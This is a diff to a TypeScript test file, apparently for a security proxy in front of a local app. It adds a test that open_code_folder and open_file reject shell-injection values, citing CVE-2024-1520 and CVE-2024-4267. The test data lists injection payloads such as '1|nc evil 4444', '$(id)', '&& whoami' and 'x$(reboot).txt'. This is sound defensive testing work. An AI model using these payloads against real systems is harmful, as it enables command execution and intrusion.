@@ -8,7 +8,7 @@ import { startHarness, basePolicy, ADMIN_KEY, USER_KEY, type Harness } from '../
 import { rawRequest } from '../helpers/http.js';
 
 let h: Harness;
-const NAMED = ['*', 'POST /apply_settings', 'POST /install_extension', 'GET /switch_personal_path', 'POST /add_webpage', 'POST /select_database'];
+const NAMED = ['*', 'POST /apply_settings', 'POST /install_extension', 'GET /switch_personal_path', 'POST /add_webpage', 'POST /select_database', 'POST /open_code_folder', 'POST /open_file'];
 
 before(async () => {
   h = await startHarness({
@@ -72,6 +72,23 @@ test('path values are refused whatever the role: JSON (nested), urlencoded form,
   assert.equal(fine.status, 200, fine.body);
   const fine2 = await send('GET', '/switch_personal_path?path=personal', a);
   assert.equal(fine2.status, 200, fine2.body);
+});
+
+test('once open_file / open_code_folder are allowed, values that reach an OS command carry no shell syntax (CVE-2024-1520, CVE-2024-4267)', async () => {
+  const a = auth(ADMIN_KEY);
+  for (const id of ['1 & calc.exe', '1; id', '1|nc evil 4444', '$(id)', '`id`', '1" && whoami && "', '1\nid', '%COMSPEC%']) {
+    await expectDenied(400, 'path_not_allowed', 'POST', '/open_code_folder', a, { discussion_id: id });
+  }
+  await expectDenied(400, 'path_not_allowed', 'POST', '/open_code_folder?discussion_id=1%26calc', a, {});
+  await expectDenied(400, 'path_not_allowed', 'POST', '/open_file', a, { path: 'notes.txt" & calc & "' });
+  await expectDenied(400, 'path_not_allowed', 'POST', '/open_file', a, { path: 'x$(reboot).txt' });
+  // an id, a plain relative file name still pass
+  for (const body of [{ discussion_id: 12 }, { discussion_id: '12' }]) {
+    const r = await send('POST', '/open_code_folder', a, body);
+    assert.equal(r.status, 200, r.body);
+  }
+  const f = await send('POST', '/open_file', a, { path: 'outputs/notes-1.txt' });
+  assert.equal(f.status, 200, f.body);
 });
 
 test('URLs the server fetches go through the SSRF guard (body and query)', async () => {
